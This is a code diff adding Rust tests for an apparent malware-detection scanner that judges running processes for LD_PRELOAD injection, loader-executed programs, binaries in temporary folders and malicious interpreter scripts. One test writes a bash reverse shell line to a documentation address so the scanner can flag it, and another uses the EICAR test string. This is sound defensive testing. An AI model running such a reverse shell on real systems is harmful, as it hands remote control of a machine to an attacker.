@@ -96,17 +96,113 @@ fn library_of(program: &str) -> String {
 }
 
 #[test]
+fn a_library_is_vouched_for_by_what_was_loaded_not_by_its_name() {
+    let device = Device::live();
+    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    // A bare name that a package has a library of, elsewhere.
+    std::fs::copy(library_of("/bin/sleep"), folder.path().join("libm.so.6")).unwrap();
+    let mut command = Command::new("/bin/sleep");
+    command.arg("1000").env("LD_PRELOAD", "libm.so.6").env("LD_LIBRARY_PATH", folder.path());
+    let running = start(&mut command);
+    loaded(&running, "libm.so.6");
+    let told = judged(&device, &running);
+    assert!(evidence(&told).contains(&"process preload 60".to_owned()), "{told}");
+    let running = start(Command::new("/bin/sleep").arg("1000").env("LD_PRELOAD", "libm.so.6"));
+    loaded(&running, "libm.so.6");
+    assert_eq!(evidence(&judged(&device, &running)), ["packages as_shipped 0", "process preload 0"]);
+}
+
+/// Waits until the loader has a file in memory.
+fn loaded(running: &Running, name: &str) {
+    let maps = format!("/proc/{}/maps", running.0.id());
+    until("the loader has it", || {
+        std::fs::read_to_string(&maps).unwrap_or_default().lines().any(|line| line.ends_with(name) && line.contains(" r-xp "))
+    });
+}
+
+#[test]
+fn what_is_executed_beside_the_image_is_looked_at() {
+    let device = Device::live();
+    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let program = folder.path().join("program");
+    std::fs::write(&program, sleep_with(eicar().as_bytes())).unwrap();
+    let Some(loader) = loader_of("/bin/sleep") else { return };
+    let running = start(Command::new(loader).arg(&program).arg("1000"));
+    loaded(&running, "program");
+    let told = judged(&device, &running);
+    assert_eq!((told["verdict"].as_str(), told["evidence"][0]["rule"].as_str()), (Some("malicious"), Some("eicar_test_file")));
+    assert_eq!(told["evidence"][0]["place"], format!("executes {}", program.display()), "{told}");
+}
+
+/// The loader that a program names.
+fn loader_of(program: &str) -> Option<String> {
+    let out = Command::new("ldd").arg(program).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    text.lines()
+        .map(str::trim)
+        .find(|line| line.starts_with('/'))
+        .and_then(|line| line.split(' ').next().map(ToOwned::to_owned))
+}
+
+#[test]
+fn where_an_image_lies_counts_once() {
+    let folder = tempfile::Builder::new().prefix("lrsh").tempdir_in("/tmp").unwrap();
+    let image = folder.path().join("daemon");
+    std::fs::copy("/bin/sleep", &image).unwrap();
+    let running = start(Command::new(&image).arg("1000"));
+    let told = judged(&Device::live(), &running);
+    assert_eq!((evidence(&told), told["score"].as_u64()), (vec!["process temporary 40".to_owned()], Some(40)), "{told}");
+}
+
+#[test]
 fn the_script_of_an_interpreter_is_looked_at() {
     let device = Device::live();
-    let folder = tempfile::tempdir().unwrap();
+    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
     let script = folder.path().join("job.sh");
     let dev = "dev";
     std::fs::write(&script, format!("sleep 1000\nbash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1\n")).unwrap();
-    let running = start(Command::new("/bin/sh").arg(&script));
+    let at = |command: &mut Command| {
+        command.current_dir(folder.path());
+        let running = start(command);
+        let told = judged(&device, &running);
+        end_with_children(running);
+        told
+    };
+    let path = script.to_str().unwrap();
+    for arguments in [
+        vec![path],
+        vec!["job.sh"],
+        vec!["-o", "errexit", "job.sh"],
+        vec!["-c", ". ./job.sh"],
+        vec!["-c", "true; source 'job.sh'"],
+    ] {
+        let told = at(Command::new("/bin/bash").args(&arguments));
+        assert_eq!(told["evidence"][0]["rule"], "reverse_shell", "{arguments:?} {told}");
+        assert_eq!(told["evidence"][0]["place"], format!("script {path}"), "{arguments:?} {told}");
+    }
+    let mut command = Command::new("/bin/bash");
+    command.stdin(File::open(&script).unwrap()).stdout(Stdio::null()).stderr(Stdio::null());
+    let running = Running(command.spawn().unwrap());
     let told = judged(&device, &running);
     assert_eq!(told["evidence"][0]["rule"], "reverse_shell", "{told}");
-    assert!(told["evidence"][0]["place"].as_str().unwrap().contains("job.sh"), "{told}");
-    // Its child keeps nothing of this test.
+    end_with_children(running);
+
+    // What cannot be found is said; where there is none, nothing is.
+    std::fs::write(&script, "sleep 1000").unwrap();
+    let running = start(Command::new("/bin/bash").arg("-c").arg("sleep 1000; . ./lost.sh"));
+    let told = judged(&device, &running);
+    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains("lost.sh")), "{told}");
+    end_with_children(running);
+    let mut command = Command::new("/bin/bash");
+    let running = Running(command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());
+    let told = judged(&device, &running);
+    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains("a pipe")), "{told}");
+    let told = at(Command::new("/bin/bash").arg("-c").arg("sleep 1000; true"));
+    assert_eq!((told["verdict"].as_str(), &told["not_looked_at"]), (Some("clean"), &serde_json::json!([])), "{told}");
+}
+
+/// Ends a shell and what it waits for.
+fn end_with_children(running: Running) {
     let children = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", running.0.id())).unwrap_or_default();
     drop(running);
     for child in children.split_whitespace() {
